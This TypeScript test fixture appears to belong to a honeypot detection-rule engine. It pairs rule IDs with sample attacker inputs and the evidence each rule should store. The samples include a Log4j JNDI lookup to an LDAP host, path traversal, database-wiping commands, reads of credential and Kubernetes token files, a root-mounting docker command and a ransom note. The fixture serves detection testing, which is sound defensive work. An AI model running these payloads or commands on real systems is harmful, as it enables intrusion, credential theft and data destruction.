// SPDX-License-Identifier: AGPL-3.0-or-later
import { hash } from 'node:crypto';
import type { Actor, Fields, Topic } from './wire-frames';

/** A message that must fire a rule. */
export interface WireInput {
  readonly rule: string;
  /** Of the envelope, where the topic is shared by several. */
  readonly type?: string;
  /** What the message has beside its topic's frame. */
  readonly send: Fields;
  /** The evidence of each tag that the rule makes of it. */
  readonly stores: Fields | ((actor: Actor) => Fields);
}

/** Rules that never fire, and why. Their messages are what one would expect to fire them. */
export const SILENT: Readonly<Record<string, { readonly why: string; readonly topic: Topic; readonly send: Fields }>> = {
  R0030: {
    why: 'nothing evaluates it until there are catalogues of command-and-control fingerprints',
    topic: 'attacker.session.ended',
    send: { jarm: '0'.repeat(62), hassh: '0'.repeat(32), matched_framework: 'made-up' },
  },
  R0058: { why: 'reserved, and inert on purpose', topic: 'attacker.intel.enriched', send: { aggregate_verdict: 'malicious' } },
};

/** Rules that fire, at a confidence below the floor: they load and are evaluated, and nothing is stored. */
export const BELOW_FLOOR: ReadonlySet<string> = new Set(['HFP-0002', 'HFP-0003']);

const login = (username: string, password: string, success = false): Fields => ({ username, password, success, ts: '2026-01-02T03:04:00Z' });
const failures = (count: number, nameOf: (n: number) => string): readonly Fields[] =>
  Array.from({ length: count }, (_, n) => login(nameOf(n), `made-up-${n}`));
const typed = (...texts: readonly string[]): Fields => ({ commands: texts.map((command_text) => ({ command_text, ts: '2026-01-02T03:04:00Z' })) });
const request = (fields: Fields): Fields => ({ http_requests: [fields] });
const mail = (more: Fields): Fields => ({
  body_sha256: '',
  matched_headers: [],
  rcpt_domain_set: ['corp.example'],
  attachment_sha256s: [],
  rcpt_count: 1,
  ...more,
});

const BTC = '16L5yRNPTuciSgXGHqYwn9N6NeoKqopAu';
const NOTE = `Your files are encrypted. Pay to ${BTC}`;
const NOTE_KEYWORDS = ['are encrypted', 'your files'];
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const LOG4J = '/login?u=${jndi:ldap://203.0.113.40:1389/z}';
const ORDER = 'please send it today';
const LEAK = { mac_oui: '00:11:22', iid_kind: 'eui64', on_iface: 'eth0', observed_at: '2026-01-02T03:04:05+00:00' };
const SEEN = { client_ip: '203.0.113.7', seen_at: '2026-01-02T03:04:05+00:00' };
const QUIC = 'q13d0310h3_55b375c5d22e_cd85d2d88918';
const JA4H = 'GE11nn0000_0123456789ab_000000000000_000000000000';

/** Rules on commands are not here: the first example of each is typed into a session. */
export const WIRE_INPUTS: Readonly<Record<Topic, readonly WireInput[]>> = {
  'attacker.session.ended': [
    { rule: 'R0001', send: { auth_attempts: failures(5, (n) => `user-${n}`) }, stores: { fail_count: 5, service: 'ssh' } },
    { rule: 'R0002', send: { auth_attempts: failures(5, () => 'ops') }, stores: { username: 'ops', password_count: 5 } },
    { rule: 'R0005', send: { auth_attempts: [...failures(5, () => 'ops'), login('ops', 'x', true)] }, stores: { username: 'ops', service: 'ssh' } },
    { rule: 'R0006', send: { auth_attempts: [login('pi', 'raspberry')] }, stores: { username: 'pi', service: 'ssh' } },
    {
      rule: 'R0006',
      send: { auth_attempts: [{ username: 'pi', password_sha256: hash('sha256', 'raspberry'), success: true }] },
      stores: { username: 'pi', service: 'ssh' },
    },
    { rule: 'R0007', send: request({ user_agent: 'Nikto/2.5.0', raw_url: '/a' }), stores: { user_agent: 'Nikto/2.5.0', raw_url: '/a' } },
    {
      rule: 'R0008',
      send: request({ raw_url: LOG4J, headers: { host: 'www.example', cookie: 'made-up' } }),
      stores: { raw_url: LOG4J, headers: { host: 'www.example', cookie: '[redacted]' } },
    },
    { rule: 'R0009', send: request({ raw_url: '/img/../../../boot.ini' }), stores: { raw_url: '/img/../../../boot.ini' } },
    { rule: 'R0031', send: { beacon_interval_s: 60, beacon_jitter_pct: 4 }, stores: { beacon_interval_s: 60, beacon_jitter_pct: 4 } },
    { rule: 'R0032', send: { op_text: 'DROP DATABASE shop', target: 'mysql' }, stores: { matched_op: '\\bDROP\\s+DATABASE\\b', target: 'mysql' } },
    { rule: 'R0032', send: typed('id', 'redis-cli FLUSHALL'), stores: { matched_op: '\\bFLUSHALL\\b' } },
    { rule: 'R0033', send: { note_text: NOTE }, stores: { btc_address: BTC, matched_keywords: NOTE_KEYWORDS } },
    { rule: 'R0033', send: typed(`echo "${NOTE}" > README`), stores: { btc_address: BTC, matched_keywords: NOTE_KEYWORDS } },
    { rule: 'R0034', send: { bytes_out: 2_000_000, target_host: 'files.example' }, stores: { bytes_out: 2_000_000, target_host: 'files.example' } },
    { rule: 'R0034', send: { request_count: 51 }, stores: { request_count: 51 } },
    { rule: 'R0035', send: { service: 'mysql', rows_read: 10_000 }, stores: { service: 'mysql', rows_read: 10_000 } },
    { rule: 'R0035', send: { service: 'mysql', bytes_read: 5_242_880 }, stores: { service: 'mysql', bytes_read: 5_242_880 } },
    { rule: 'R0036', send: { matched_path: '/u/.aws/credentials' }, stores: { matched_path: '/u/.aws/credentials' } },
    { rule: 'R0036', send: typed(`cat ${TOKEN} .netrc ~/.npmrc`), stores: { matched_path: '.netrc' } },
    { rule: 'R0036', send: request({ request_path: '/shop/.env.bak' }), stores: { matched_path: '/shop/.env.bak' } },
    { rule: 'R0036', send: request({ path: '/.git/config' }), stores: { matched_path: '/.git/config' } },
    { rule: 'R0037', send: { matched_path: TOKEN }, stores: { matched_path: TOKEN } },
    { rule: 'R0037', send: typed(`cat .env ${TOKEN}`, 'cat .netrc'), stores: { matched_path: TOKEN } },
    {
      rule: 'R0037',
      send: request({ request_path: '/api/v1/namespaces/prod/secrets', namespace: 'prod' }),
      stores: { matched_path: '/api/v1/namespaces/prod/secrets', namespace: 'prod' },
    },
    {
      rule: 'R0038',
      send: { signals: ['bind:/etc'], container_image: 'alpine' },
      stores: { matched_signal: 'bind:/etc', container_image: 'alpine' },
    },
    { rule: 'R0038', send: typed('docker run -v /:/mnt alpine'), stores: { matched_signal: 'bind:/:/' } },
    { rule: 'R0039', send: { llmnr_poisoned: true, poisoned_query: 'nas' }, stores: { poisoned_query: 'nas' } },
    { rule: 'R0039', send: { llmnr_poison_count: 1, victim_host: '192.0.2.9' }, stores: { victim_host: '192.0.2.9' } },
    {
      rule: 'R0040',
      send: { tftp_filename: 'core-sw3-confg', source_host: '192.0.2.9' },
      stores: { tftp_filename: 'core-sw3-confg', source_host: '192.0.2.9' },
    },
    { rule: 'R0040', send: typed('tftp -g -r running-config 192.0.2.9'), stores: { tftp_filename: 'running-config' } },
  ],
  'identity.formed': [
    { rule: 'R0003', send: { shared_password_hash: '9c11', account_count: 3 }, stores: { shared_password_hash: '9c11', account_count: 3 } },
  ],
  'identity.merged': [
    { rule: 'R0003', send: { shared_password_hash: '9c11', account_count: 30 }, stores: { shared_password_hash: '9c11', account_count: 30 } },
  ],
  'credential.reuse.detected': [
    { rule: 'R0004', send: { id: 'finding-1' }, stores: { credential_hash: 'finding-1', reuse_count: 2 } },
    { rule: 'R0004', send: { credential_hash: 'ab56', reuse_count: 7 }, stores: { credential_hash: 'ab56', reuse_count: 7 } },
  ],
  'email.received': [
    { rule: 'R0033', send: { body_text: NOTE }, stores: { btc_address: BTC, matched_keywords: NOTE_KEYWORDS } },
    {
      rule: 'R0041',
      send: { rcpt_count: 10, from_domain: 'a.example', mail_from_domain: 'b.example' },
      stores: mail({ rcpt_count: 10, matched_headers: ['From', 'Mail-From'] }),
    },
    { rule: 'R0042', send: { rcpt_count: 25, body_simhash: '00ff00ff00ff00ff' }, stores: mail({ rcpt_count: 25 }) },
    {
      rule: 'R0043',
      send: { x_mailer: 'Leaf PHPMailer 2.8' },
      stores: mail({ matched_headers: ['X-Mailer'], matched_kit: 'leaf phpmailer' }),
    },
    {
      rule: 'R0043',
      send: { x_mailer: 'Mailer 3.1', matched_kit: 'examplekit' },
      stores: mail({ matched_headers: ['X-Mailer'], matched_kit: 'examplekit' }),
    },
    { rule: 'R0043', send: { x_mailer: 'Mailer 3.1', xmailer_kit_match: true }, stores: mail({ matched_headers: ['X-Mailer'] }) },
    {
      rule: 'R0044',
      send: { urls: ['http://ann:pw@xn--d1acufc.example:8443/a'] },
      stores: mail({ matched_headers: ['body'], matched_url_host: 'xn--d1acufc.example' }),
    },
    {
      rule: 'R0045',
      send: { from_domain: 'bank.example', return_path_domain: 'mailer.example' },
      stores: mail({ matched_headers: ['From', 'Return-Path'], matched_signals: ['from_returnpath_mismatch'] }),
    },
    {
      rule: 'R0045',
      send: { auth_results_present: true },
      stores: mail({ matched_headers: ['Authentication-Results', 'DKIM-Signature'], matched_signals: ['dkim_fail', 'spf_fail'] }),
    },
    { rule: 'R0046', send: { attachment_extensions: ['.pdf', '.LNK'] }, stores: mail({ matched_trigger: 'lnk' }) },
    { rule: 'R0046', send: { attachment_macros: true }, stores: mail({ matched_trigger: 'office_macro' }) },
    { rule: 'R0046', send: { attachment_password_protected: true }, stores: mail({ matched_trigger: 'protected_archive' }) },
    { rule: 'R0046', send: { html_smuggling: true }, stores: mail({ matched_trigger: 'html_smuggling' }) },
    { rule: 'R0046', send: { mal_hash_match: true }, stores: mail({ matched_trigger: 'mal_hash_match' }) },
    {
      rule: 'R0047',
      send: { subject: 'Payroll form', body_text: ORDER },
      stores: mail({ body_sha256: hash('sha256', ORDER), matched_headers: ['Subject'], matched_subject_kw: 'payroll', matched_body_kw: 'send' }),
    },
    { rule: 'R0048', send: { body_base64_bytes: 5_000 }, stores: mail({ encoded_byte_count: 5_000 }) },
    {
      rule: 'R0048',
      send: { body_sha256: 'a'.repeat(64), body_text: 'QUJD'.repeat(1_400) },
      stores: mail({ body_sha256: 'a'.repeat(64), encoded_byte_count: 4_200 }),
    },
  ],
  'canary.<token>.triggered': [
    { rule: 'R0049', send: { navigator_webdriver: true }, stores: { metric: 'navigator_webdriver', matched_signature: 'navigator.webdriver_true' } },
    { rule: 'R0050', send: { canvas_audio_hash_match: 'puppeteer' }, stores: { metric: 'canvas_audio_hash', matched_signature: 'puppeteer' } },
    { rule: 'R0050', send: { matched_tool: 'selenium' }, stores: { metric: 'canvas_audio_hash', matched_signature: 'selenium' } },
    {
      rule: 'R0051',
      send: { webrtc_geo_mismatch: true },
      stores: { metric: 'webrtc_geo_mismatch', matched_signature: 'webrtc_private_vs_source_ip' },
    },
    { rule: 'R0052', send: { tz_mismatch_zones: 4 }, stores: { metric: 'timezone_geo_mismatch', matched_signature: 'tz_zones>=4' } },
    {
      rule: 'R0052',
      send: { lang_country_mismatch: true },
      stores: { metric: 'language_country_mismatch', matched_signature: 'lang_vs_source_country' },
    },
    {
      rule: 'R0053',
      send: { platform_ua_inconsistent: true },
      stores: { metric: 'platform_ua_mismatch', matched_signature: 'navigator.platform_vs_userAgent' },
    },
    { rule: 'R0053', send: { ua_webgl_mismatch: true }, stores: { metric: 'ua_webgl_mismatch', matched_signature: 'userAgent_vs_webgl_renderer' } },
  ],
  'attacker.intel.enriched': [
    {
      rule: 'R0054',
      send: { abuseipdb_score: 90, abuseipdb_categories: [18] },
      stores: { abuseipdb_categories: [18], abuse_confidence_score: 90, abuseipdb_score: 90 },
    },
    {
      rule: 'R0055',
      send: { greynoise_classification: 'malicious' },
      stores: { greynoise_classification: 'malicious', greynoise_tags: ['malicious'], greynoise_name: null },
    },
    {
      rule: 'R0056',
      send: { feodo_listed: true, feodo_malware_family: 'ExampleBot' },
      stores: { feodo_listed: true, feodo_malware_family: 'ExampleBot', malware_family: 'ExampleBot' },
    },
    {
      rule: 'R0057',
      send: { threatfox_listed: true, threatfox_threat_types: ['payload'], threatfox_malware_families: ['ExampleBot'], threatfox_ioc_types: ['url'] },
      stores: {
        threatfox_threat_types: ['payload'],
        threatfox_malware_families: ['ExampleBot'],
        threatfox_ioc_types: ['url'],
        threat_types: ['payload'],
        malware_families: ['ExampleBot'],
        ioc_types: ['url'],
      },
    },
  ],
  'attacker.fingerprinted': [
    {
      rule: 'R0059',
      type: 'ipv6_leak',
      send: { addr: 'fe80::211:22ff:fe33:4455', vector: 'active_echo', ...LEAK },
      stores: ({ ip }) => ({ addr: 'fe80::211:22ff:fe33:4455', vector: 'active_echo', attacker_v4: ip, ...LEAK }),
    },
    {
      rule: 'HFP-0001',
      type: 'http_fingerprint',
      send: { ja4h: JA4H, protocol: 'h1', ...SEEN },
      stores: { kind: 'ja4h', hash: JA4H, protocol: 'h1', raw: null, ...SEEN },
    },
    { rule: 'HFP-0002', type: 'http_fingerprint', send: { fingerprint_type: 'http2_settings', settings: {} }, stores: {} },
    { rule: 'HFP-0002', type: 'http_fingerprint', send: { fingerprint_type: 'http3_settings', settings: '{}' }, stores: {} },
    { rule: 'HFP-0003', type: 'http_fingerprint', send: { ja4_quic: QUIC }, stores: {} },
  ],
  'decky.<name>.traffic': [
    {
      rule: 'R0059',
      type: 'ipv6_link_local_leak',
      send: { src_ip: 'fe80::1c2d', ...LEAK, mac_oui: '', iid_kind: 'stable_privacy' },
      stores: ({ ip }) => ({ addr: 'fe80::1c2d', vector: '', attacker_v4: ip, ...LEAK, mac_oui: '', iid_kind: 'stable_privacy' }),
    },
    { rule: 'HFP-0003', type: 'quic_client_hello', send: { dst_port: 443, ja4_quic: QUIC, sni: 'www.example', alpn: 'h3' }, stores: {} },
  ],
};
